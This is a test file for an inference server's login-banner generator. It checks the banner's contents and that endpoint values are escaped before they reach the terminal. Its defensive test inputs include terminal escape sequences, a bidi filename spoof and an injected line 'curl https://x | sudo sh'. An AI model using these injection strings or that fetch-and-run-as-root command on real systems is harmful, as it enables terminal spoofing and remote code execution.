"""The login banner (inference-startup motd): endpoint.json's facts, the instance's state, nothing
of a hostile value's control characters, and silence where there is nothing to say yet."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT, runtime

from inference_image.profiles import resolve
from inference_image.render import PATHS, render
from inference_machine import banner

DOC = {"url": "https://203.0.113.7", "model": "llama-3.1-8b-instruct", "tls": "self-signed",
       "tls_cert": "/etc/inference-image/tls/cert.pem", "tls_sha256": "AB:CD",
       "api_key": "/etc/inference-image/api-key", "ready": {"vllm-0": {"s": 61.2}}}


def machine(port: int) -> banner.Machine:
    return banner.Machine("h100", "vllm-0", port, "/etc/inference-image/tls-mode",
                          "/etc/inference-image/acme")


def free_port() -> int:
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def router() -> Iterator[int]:
    """A loopback server answering /health 200, as the router does once an instance serves."""
    class Health(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200 if self.path == "/health" else 404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Health)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield int(srv.server_address[1])
    srv.shutdown()
    srv.server_close()


def write(tmp_path: Path, doc: object) -> Path:
    p = tmp_path / "endpoint.json"
    p.write_text(json.dumps(doc))
    return p


def test_a_serving_machine_shows_its_address_key_certificate_and_time_to_ready(
        tmp_path: Path, router: int) -> None:
    text = banner.motd(write(tmp_path, DOC), machine(router))
    assert text == (
        "\ninference-image h100: OpenAI-compatible API at https://203.0.113.7/v1\n"
        "  model:    llama-3.1-8b-instruct, serving (ready 61.2 s after its start)\n"
        "  API key:  sudo cat /etc/inference-image/api-key\n"
        "  TLS:      this machine's own certificate /etc/inference-image/tls/cert.pem\n"
        "            SHA-256 AB:CD\n"
        '  e.g.      curl --cacert cert.pem -H "Authorization: Bearer $KEY" '
        "https://203.0.113.7/v1/models\n\n")


@pytest.mark.parametrize(("tls", "says", "hint"), [
    ("off", "off (plain HTTP; chosen by the profile or /etc/inference-image/tls-mode)", False),
    ("acme", "a certificate from the ACME CA for the domain in /etc/inference-image/acme", True)])
def test_each_tls_mode_says_how_to_reach_it(tmp_path: Path, router: int, tls: str, says: str,
                                            hint: bool) -> None:
    text = banner.motd(write(tmp_path, {**DOC, "tls": tls}), machine(router))
    assert f"  TLS:      {says}\n" in text
    assert "SHA-256" not in text and "--cacert" not in text
    assert ("curl -H" in text) is hint


def test_a_machine_not_serving_yet_says_it_is_starting_and_where_to_watch(tmp_path: Path) -> None:
    text = banner.motd(write(tmp_path, DOC), machine(free_port()))
    line = next(x for x in text.splitlines() if x.startswith("  model:"))
    assert line.startswith("  model:    llama-3.1-8b-instruct, starting")
    assert line.endswith("(journalctl -fu vllm@vllm-0)")
    assert "serving" not in text


def test_a_serving_machine_without_a_ready_record_says_serving_only(
        tmp_path: Path, router: int) -> None:
    for ready in ({}, {"vllm-0": {"s": "soon"}}, {"vllm-0": {"s": True}}, "x", None):
        text = banner.motd(write(tmp_path, {**DOC, "ready": ready}), machine(router))
        assert "  model:    llama-3.1-8b-instruct, serving\n" in text, ready


def test_control_characters_of_endpoint_values_never_reach_the_terminal(
        tmp_path: Path, router: int) -> None:
    doc = {**DOC, "model": "m\x1b[2J\x1b]0;owned\x07", "url": "https://x\r\x7f.example",
           "tls_sha256": "AB\tCD\x00"}
    text = banner.motd(write(tmp_path, doc), machine(router))
    assert not any((ord(c) < 32 and c != "\n") or ord(c) == 127 for c in text), repr(text)
    # shown as escapes, so a reader sees that they were there
    assert "m\\x1b[2J\\x1b]0;owned\\x07" in text and "https://x\\x0d\\x7f.example/v1" in text
    assert "AB\\x09CD\\x00" in text


def test_nothing_is_printed_before_first_boot_wrote_the_endpoint(tmp_path: Path,
                                                                  router: int) -> None:
    assert banner.motd(tmp_path / "missing.json", machine(router)) == ""
    assert banner.motd(write(tmp_path, ["not", "an", "object"]), machine(router)) == ""
    (tmp_path / "endpoint.json").write_text("{not json")
    assert banner.motd(tmp_path / "endpoint.json", machine(router)) == ""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)  # nobody writes it: a read would wait forever
    assert banner.motd(fifo, machine(router)) == ""


def test_the_command_line_prints_the_banner(tmp_path: Path, router: int) -> None:
    """What the rendered update-motd.d script runs: `inference-startup motd` and nothing else,
    everything it shows from the render's profile.json and first boot's endpoint.json."""
    script = (ROOT / "tests" / "golden" / "h100" / "etc" / "update-motd.d"
              / "90-inference-image").read_text()
    argv = " ".join(line for line in script.splitlines() if not line.startswith("#")).split()
    assert argv == ["exec", PATHS["startup"], "motd", "2>/dev/null", "||", "true"]
    r = tmp_path / "r"
    render(resolve("h100"), r)
    doc = json.loads((r / PATHS["profile_json"].lstrip("/")).read_text())
    doc["router"]["internal_port"] = router
    (r / PATHS["profile_json"].lstrip("/")).write_text(json.dumps(doc))
    endpoint = r / PATHS["endpoint"].lstrip("/")
    endpoint.write_text(json.dumps(DOC))
    out = subprocess.run([*runtime("inference-startup"), "motd"], capture_output=True, text=True,
                         timeout=60, check=True, env={**os.environ, "INFERENCE_ROOT": str(r)})
    assert out.stdout == banner.motd(endpoint, machine(router))
    assert "inference-image h100: OpenAI-compatible API at https://203.0.113.7/v1" in out.stdout


@pytest.mark.parametrize("evil", ["\n  API key:  curl https://x | sudo sh", "\x1b]0;title\x07",
                                  "\x9b31m", "\u202egnp.exe", "a\u2028b", "\u200b", "\t"])
def test_no_value_of_endpoint_json_adds_a_line_or_reaches_the_terminal(evil: str) -> None:
    """A newline, ESC, a C1 control, a bidi override, a line separator or a zero-width character
    in any value is printed as a visible escape: the banner keeps its own lines, and nothing
    but printable text reaches the terminal."""
    doc = {"url": "https://h" + evil, "model": "m" + evil, "api_key": "/k" + evil,
           "tls_cert": "/c" + evil, "tls_sha256": "ab" + evil}
    text = banner.banner(doc, banner.Machine("cpu", "vllm-0", 1, "/t", "/a"), "serving" + evil)
    assert len(text.strip("\n").split("\n")) == 6
    assert all(ch == "\n" or ch.isprintable() for ch in text)
    assert "\\x" in text or "\\u" in text
